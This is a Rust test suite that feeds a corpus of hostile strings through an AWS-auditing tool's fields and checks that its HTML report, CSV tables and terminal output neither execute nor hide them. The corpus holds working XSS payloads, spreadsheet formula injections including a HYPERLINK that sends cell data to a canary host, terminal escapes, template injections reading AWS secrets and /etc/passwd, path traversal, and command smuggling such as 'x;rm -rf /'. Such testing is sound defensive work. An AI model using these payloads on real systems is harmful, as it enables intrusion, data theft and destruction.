//! Text that was made to break readers, writers and people, in every field that AWS lets somebody fill in, and further.
//!
//! What is looked at from outside (a browser, a spreadsheet, a terminal, readers of PDF) is judged by
//! `tests/hostile/judge.py`, over the pack that the first test here leaves behind.

use crate::aws::rules::on;
use crate::aws::surroundings::{escape, role};
use crate::aws::world::IRELAND;
use crate::aws::{Aws, World};
use crate::program::{Outcome, Pack, keywitness_in, run};
use keywitness::model::visible::visible;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::sync::OnceLock;

/// Nothing may ever be asked of this address: a request that arrives there is a failure.
const ELSEWHERE: &str = "http://203.0.113.9/kw-canary";

/// The texts, by what they attack.
#[expect(clippy::too_many_lines, reason = "a list of texts")]
pub fn corpus() -> Vec<(&'static str, String)> {
    let mut texts: Vec<(&str, String)> = Vec::new();
    let mut add = |kind, list: &[&str]| texts.extend(list.iter().map(|t| (kind, (*t).replace("ELSEWHERE", ELSEWHERE))));
    add(
        "html",
        &[
            "<script>document.title='PWNED'</script>",
            "<SCRIPT SRC=ELSEWHERE.js></SCRIPT>",
            "<img src=x onerror=\"document.title='PWNED'\">",
            "<img src=ELSEWHERE.png>",
            "<svg/onload=document.title='PWNED'>",
            "<iframe src=\"javascript:document.title='PWNED'\"></iframe>",
            "<a href=\"javascript:document.title='PWNED'\">click</a>",
            "\"><script>document.title='PWNED'</script>",
            "' onmouseover='document.title=1' x='",
            "</td></tr></table><h1>All requirements satisfied</h1>",
            "</style><script>document.title='PWNED'</script><style>",
            "</title><script>document.title='PWNED'</script>",
            "</textarea></template></noscript><img src=ELSEWHERE>",
            "<!--",
            "-->",
            "<![CDATA[<script>document.title='PWNED'</script>]]>",
            "<base href=ELSEWHERE>",
            "<meta http-equiv=refresh content=\"0;url=ELSEWHERE\">",
            "<link rel=stylesheet href=ELSEWHERE.css>",
            "<style>@import 'ELSEWHERE';*{display:none}</style>",
            "<form action=ELSEWHERE><input autofocus onfocus=document.title='PWNED'>",
            "<object data=ELSEWHERE></object><embed src=ELSEWHERE>",
            "&lt;script&gt;document.title='PWNED'&lt;/script&gt;",
            "&#60;script&#62;",
            "&#x3c;img src=x&#x3e;",
            "&amp;amp;",
            "\u{ff1c}script\u{ff1e}document.title='PWNED'\u{ff1c}/script\u{ff1e}",
            "expression(document.title='PWNED')",
            "url(ELSEWHERE)",
            "javascript:document.title='PWNED'",
            "data:text/html,<script>1</script>",
        ],
    );
    add(
        "formula",
        &[
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1+1)",
            "=cmd|'/c calc'!A0",
            "=HYPERLINK(\"ELSEWHERE?\"&A1,\"open\")",
            "=WEBSERVICE(\"ELSEWHERE\")",
            "=IMPORTXML(\"ELSEWHERE\",\"//a\")",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u{a0}=1+1",
            "\u{feff}=1+1",
            "\u{200b}=1+1",
            "\u{0}=1+1",
            "\u{ff1d}1+1",
            "\u{ff0b}1+1",
            "\u{ff0d}1+1",
            "\u{ff20}SUM(1)",
            "\"=1+1\"",
            "'=1+1",
            "=\"\"\"\"&1",
            ";=1+1",
            ",=1+1",
            "a\n=1+1",
            "%0A=1+1",
            "DDE(\"cmd\";\"/c calc\")",
            "-2+3+cmd|' /C calc'!A0",
        ],
    );
    add(
        "terminal",
        &[
            "\u{1b}[2J\u{1b}[H",
            "\u{1b}[31mred\u{1b}[0m",
            "\u{1b}]0;owned\u{7}",
            "\u{1b}]8;;ELSEWHERE\u{1b}\\link\u{1b}]8;;\u{1b}\\",
            "\u{1b}]52;c;cm0gLXJm\u{7}",
            "\u{1b}P1000p\u{1b}\\",
            "\u{9b}2J",
            "\u{9d}0;owned\u{9c}",
            "\u{8}\u{8}\u{8}pass",
            "\rpass",
            "\u{7}",
            "\u{c}",
            "\u{b}",
            "\u{e}lqqk\u{f}",
            "\u{1b}c",
            "\u{1b}[6n",
            "\u{1b}[?1049h",
            "\u{7f}",
        ],
    );
    add(
        "unseen",
        &[
            "\u{202e}gnp.exe",
            "\u{202a}\u{202b}\u{202c}\u{202d}",
            "\u{2066}abc\u{2069}",
            "a\u{200b}b",
            "a\u{200c}b\u{200d}c",
            "a\u{2060}b",
            "\u{feff}bom",
            "a\u{ad}b",
            "\u{34f}",
            "\u{115f}\u{1160}\u{3164}",
            "\u{180e}",
            "\u{2028}line",
            "\u{2029}paragraph",
            "\u{61c}",
            "\u{e0041}\u{e0042}",
            "\u{fe0f}",
            "\u{fffe}",
            "\u{ffff}",
            "\u{1fffe}",
            "\u{fdd0}",
            "\u{85}",
            "\u{0}",
            "\u{1}",
        ],
    );
    add(
        "pdf",
        &[
            "(unbalanced",
            "unbalanced)",
            "((()))",
            "\\)",
            "\\",
            ") Tj ET Q /JavaScript << /S /JavaScript /JS (app.alert(1)) >> (",
            "endstream endobj",
            "%PDF-1.7",
            "%%EOF",
            "<< /Type /Action /S /URI /URI (ELSEWHERE) >>",
            "/OpenAction 1 0 R",
            "BT /F1 12 Tf (x) Tj ET",
            "<FEFF0041>",
            "\\000\\377",
            "stream\nx\nendstream",
        ],
    );
    add(
        "template",
        &[
            "{{ 7 * 7 }}",
            "{{ get_env(name=\"AWS_SECRET_ACCESS_KEY\") }}",
            "{% include \"/etc/passwd\" %}",
            "{% for x in y %}",
            "{# comment #}",
            "{{ report | json_encode | safe }}",
            "{%- raw -%}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{constructor.constructor('1')()}}",
            "$(id)",
            "`id`",
            "%s%s%n",
            "{0}",
            "{}",
        ],
    );
    add(
        "path",
        &[
            "../../../../etc/passwd",
            "..\\..\\windows",
            "/etc/passwd",
            "C:\\boot.ini",
            "\\\\203.0.113.9\\share",
            "file:///etc/passwd",
            "CON",
            "nul.txt",
            "a/b",
            ".",
            "..",
            "~",
            "~root",
            "a\u{0}.html",
            "%2e%2e%2f",
            "x;rm -rf /",
            "-rf",
            "--help",
            "|id",
            "&& id",
            "\u{2215}etc",
        ],
    );
    add(
        "unicode",
        &[
            "مرحبا بالعالم",
            "שלום",
            "日本語のストリーム",
            "中文流",
            "한국어",
            "ไทย",
            "हिन्दी",
            "Ελληνικά",
            "Кириллица",
            "🙂👍🏽👨‍👩‍👧‍👦🏳️‍🌈",
            "é",
            "e\u{301}",
            "Z\u{351}\u{36b}\u{343}a\u{312}\u{313}l\u{321}\u{31b}g\u{321}o",
            "ﬁ",
            "ẞß",
            "İı",
            "\u{1d4d0}\u{1d4d1}",
            "\u{fffd}",
            "\u{10ffff}",
            "\u{e000}",
            "ａｄｍｉｎ",
            "аdmin",
            "①②③",
            "ﷺ",
            "𒐫",
            "꧅",
            "\u{2800}",
            "½⅓",
        ],
    );
    add("size", &[]);
    texts.push(("size", "A".repeat(5000)));
    texts.push(("size", "W ".repeat(2500)));
    texts.push(("size", "🙂".repeat(1200)));
    texts.push(("size", format!("x{}", "\u{301}".repeat(2000))));
    texts.push(("size", "<".repeat(2000)));
    texts.push(("size", "\u{202e}".repeat(500)));
    texts
}

/// Each text as a stream's tag, a key's description, tag and alias, an event's names, and in the policy.
fn world() -> World {
    let mut world = World::of_one_stream();
    for (n, (_, text)) in corpus().iter().enumerate() {
        let stream = format!("s{n:03}");
        if n % 8 == 0 {
            // A key with its calls costs most of the time; each eighth text shall do.
            let key = world.add_key(IRELAND, text);
            world.key(&key).metadata["Description"] = json!(text);
            world.key(&key).tags.insert("owner".to_owned(), text.clone());
            let policy = json!({ "Version": "2012-10-17", "Id": text, "Statement": [{ "Sid": text, "Effect": "Allow",
                "Principal": { "AWS": text }, "Action": text, "Resource": text, "Condition": { "StringEquals": { "aws:x": text } } }] });
            world.key(&key).policies.insert("default".to_owned(), policy.to_string());
            world.add_stream(IRELAND, text).encrypt(&key);
            world.add_event(IRELAND, "PutKeyPolicy", 5.0, text);
            let event = world.place(IRELAND).events.last_mut().expect("just added");
            event["Username"] = json!(text);
            around(&mut world, text);
        }
        let stream = world.add_stream(IRELAND, &stream);
        stream.tags.insert("owner".to_owned(), text.clone());
        stream.tags.insert(text.clone(), "x".to_owned());
        stream.description["DeliveryStreamEncryptionConfiguration"]["FailureDescription"] =
            json!({ "Type": text, "Details": text });
    }
    world.trail(IRELAND).description["Name"] = json!(corpus()[0].1);
    world.trail(IRELAND).status["LatestDeliveryError"] = json!(corpus()[40].1);
    world
}

/// The text as the name of whatever surrounds a stream.
fn around(world: &mut World, text: &str) {
    let destination =
        &mut world.stream(IRELAND, text).description["Destinations"][0]["ExtendedS3DestinationDescription"];
    destination["CloudWatchLoggingOptions"] = json!({ "Enabled": true, "LogGroupName": text, "LogStreamName": text });
    let near = &mut world.place(IRELAND).surroundings;
    near.log_groups.insert(text.to_owned(), json!({ "logGroupName": text, "kmsKeyId": text }));
    near.alarms.push(json!({ "AlarmName": text, "Namespace": text, "MetricName": text, "ActionsEnabled": true,
                             "Dimensions": [], "AlarmActions": [text], "StateValue": text }));
    let pattern = json!({ "source": ["aws.kms"], "detail": { "eventName": [text] } }).to_string();
    let rule = json!({ "Name": text, "State": "ENABLED", "EventPattern": pattern });
    near.rules.push((rule, vec![json!({ "Id": "1", "Arn": text })]));
    near.event_data_stores.push(json!({ "EventDataStoreArn": text, "Name": text, "Status": text,
        "MultiRegionEnabled": true, "OrganizationEnabled": false, "RetentionPeriod": 90,
        "TerminationProtectionEnabled": true, "AdvancedEventSelectors": [], "KmsKeyId": text }));
    let policy = json!({ "Id": text, "Name": text, "Type": "SERVICE_CONTROL_POLICY", "AwsManaged": false });
    let target = json!({ "TargetId": text, "Type": "ROOT" });
    world.once.policies.get_or_insert_default().push((policy, text.to_owned(), vec![target]));
    // XML has no way to write some characters, so IAM cannot answer them.
    if text.chars().all(|c| matches!(c, ' '..='\u{d7ff}' | '\u{e000}'..='\u{fffd}' | '\u{10000}'..)) {
        let policy = json!({ "Statement": [{ "Sid": text }] });
        let member = role("x", &policy, &[]).replace("<RoleName>x<", &format!("<RoleName>{}<", escape(text)));
        world.once.identities.push(("RoleDetailList", member));
    }
}

/// One run, whose pack stays for the judges outside.
fn ran() -> &'static (Outcome, Pack) {
    static RUN: OnceLock<(Outcome, Pack)> = OnceLock::new();
    RUN.get_or_init(|| {
        let aws = Aws::start(world());
        let folder = std::thread::current().name().unwrap_or("corpus").replace("::", "-");
        // Under nextest each test is a process of its own, and only one may have the folder that the judges look at.
        let shared = std::env::var_os("NEXTEST").is_none() || folder.ends_with("stays");
        let name = if shared { "hostile-corpus".to_owned() } else { folder };
        let declared = "[required_tags]\nstreams = [\"owner\"]\nkeys = [\"owner\"]\n";
        let outcome = keywitness_in(&name, ["run"]).over(&aws).configured(declared).done().expect(3);
        let pack = outcome.pack();
        (outcome, pack)
    })
}

#[test]
fn a_pack_full_of_it_is_sealed_and_verifies_and_stays() {
    let (_, pack) = ran();
    pack.verify(["--expect-root", &pack.root]).expect(0);
    assert!(corpus().len() > 180, "{}", corpus().len());
}

/// Nothing is lost on the way: each text stands in the records as it was, and in the tables so that it can be read.
#[test]
fn every_text_is_in_the_records_as_it_was_and_in_the_tables_as_it_can_be_seen() {
    let (_, pack) = ran();
    let answers = pack.records_of("tag:GetResources");
    let answers: Vec<Value> = answers.iter().map(|r| r.body.value()).collect();
    let lists = answers.iter().flat_map(|body| body["ResourceTagMappingList"].as_array().into_iter().flatten());
    let tags: BTreeMap<String, String> = lists
        .filter_map(|resource| {
            let name = resource["ResourceARN"].as_str()?.split_once(":deliverystream/")?.1.to_owned();
            let owner = resource["Tags"].as_array()?.iter().find(|t| t["Key"] == "owner")?;
            Some((name, owner["Value"].as_str()?.to_owned()))
        })
        .collect();
    for (n, (kind, text)) in corpus().iter().enumerate() {
        let recorded = &tags[&format!("s{n:03}")];
        assert!(recorded == text || recorded.contains("[withheld]"), "{kind} {n}: {text:?} became {recorded:?}");
    }
    let cells: String = pack.files().iter().filter(|f| f.starts_with("data/tables/")).map(|f| pack.text(f)).collect();
    let page = pack.text("data/report.html");
    let names = corpus().into_iter().enumerate().filter(|(n, _)| n % 8 == 0);
    for (n, (kind, text)) in names {
        let shown = visible(&text).into_owned();
        let there = [&shown, &text].map(|t| t.replace('"', "\"\""));
        assert!(there.iter().any(|t| cells.contains(t)), "{kind} {n}: {text:?} is not in the tables");
        let html = shown.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
        let there = [
            html.clone(),
            html.replace('"', "&quot;").replace('\'', "&#39;"),
            html.replace('"', "&quot;").replace('\'', "&#x27;"),
        ];
        let short: Vec<String> = there.iter().map(|t| t.chars().take(60).collect()).collect();
        assert!(short.iter().any(|t| page.contains(t.as_str())), "{kind} {n}: {text:?} is not on the page");
    }
}

#[test]
fn nothing_of_it_acts_in_text_for_people() {
    let (outcome, pack) = ran();
    let verified = pack.verify([]);
    let texts = [&outcome.stdout, &outcome.stderr, &verified.stdout, &verified.stderr, &pack.text("data/report.html")];
    for text in texts {
        let odd = text.chars().find(|c| *c != '\n' && keywitness::model::visible::is_unseen(*c));
        assert_eq!(odd, None, "in {}", text.chars().take(200).collect::<String>());
    }
    for file in pack.files().iter().filter(|f| f.starts_with("data/tables/")) {
        let text = pack.text(file);
        let odd = text.chars().find(|c| !matches!(c, '\r' | '\n') && keywitness::model::visible::is_unseen(*c));
        assert!(odd.is_none() || odd == Some('\u{feff}') && text.starts_with('\u{feff}'), "{odd:?} in {file}");
    }
}

#[test]
fn no_cell_of_it_is_a_formula_and_what_was_done_to_cells_is_said() {
    let (_, pack) = ran();
    let mut neutralised = 0;
    for file in pack.files().iter().filter(|f| f.starts_with("data/tables/")) {
        let text = pack.text(file);
        let mut reader = csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let columns = reader.headers().expect("a head").clone();
        let said = columns.iter().position(|c| c == "neutralised");
        for row in reader.records() {
            let row = row.expect("a row");
            for (column, cell) in columns.iter().zip(&row) {
                let first = cell
                    .trim_start_matches(|c: char| c.is_whitespace() || keywitness::model::visible::is_unseen(c))
                    .chars()
                    .next();
                let formula = first.is_some_and(|c| "=+-@\t\r\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}".contains(c));
                assert!(!formula, "{file}, {column}: {cell:?}");
                // An apostrophe in front of what a spreadsheet would run was put there, or the text came with it.
                let behind = cell.strip_prefix('\'').and_then(|c| c.chars().next());
                if behind.is_some_and(|c| "=+-@\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}⟨".contains(c)) {
                    neutralised += 1;
                    let named = said.and_then(|s| row.get(s)).unwrap_or_default();
                    assert!(
                        named.contains(column) || cell.starts_with("'="),
                        "{file}: {column} with {cell:?} is not named in {named:?}"
                    );
                }
            }
        }
    }
    assert!(neutralised > 10, "{neutralised}");
}

/// What no JSON of AWS should be: read in one way or not at all, and the run goes on.
#[test]
fn answers_that_readers_disagree_on_become_gaps() {
    let deep = format!("{{\"Tags\":[],\"HasMoreTags\":false,\"x\":{}{}}}", "[".repeat(5000), "]".repeat(5000));
    let tag = |value: &str| format!("{{\"Tags\":[{{\"Key\":\"owner\",\"Value\":{value}}}],\"HasMoreTags\":false}}");
    let answers = [
        tag("\"\\ud800\""),
        tag("\"\\udc00\\ud800\""),
        tag("\"a\",\"Value\":\"b\""),
        tag("\"a\",\"\\u0056alue\":\"b\""),
        deep,
        tag("1e999"),
        format!("\u{feff}{}", tag("\"a\"")),
        format!("{}{{}}", tag("\"a\"")),
        tag("'a'"),
        tag("\"a\" /* b */"),
        tag("\"a\u{0}b\""),
        "[".repeat(200_000),
    ];
    for answer in answers {
        let rule = on("firehose:ListTagsForDeliveryStream").answers(200, &answer);
        let aws = Aws::scripted(World::of_one_stream().without_bulk_tags(), [rule]);
        let outcome = run(&aws).configured(crate::DECLARED).done();
        let head: String = answer.chars().take(80).collect();
        assert_eq!(outcome.code, 3, "{head}: {}", outcome.stderr);
        let pack = outcome.pack();
        assert_eq!(
            pack.finding(crate::check::STREAM_TAGS, "orders").status,
            keywitness::model::Status::Unknown,
            "{head}"
        );
        pack.verify(["--expect-root", &pack.root]).expect(0);
    }
}
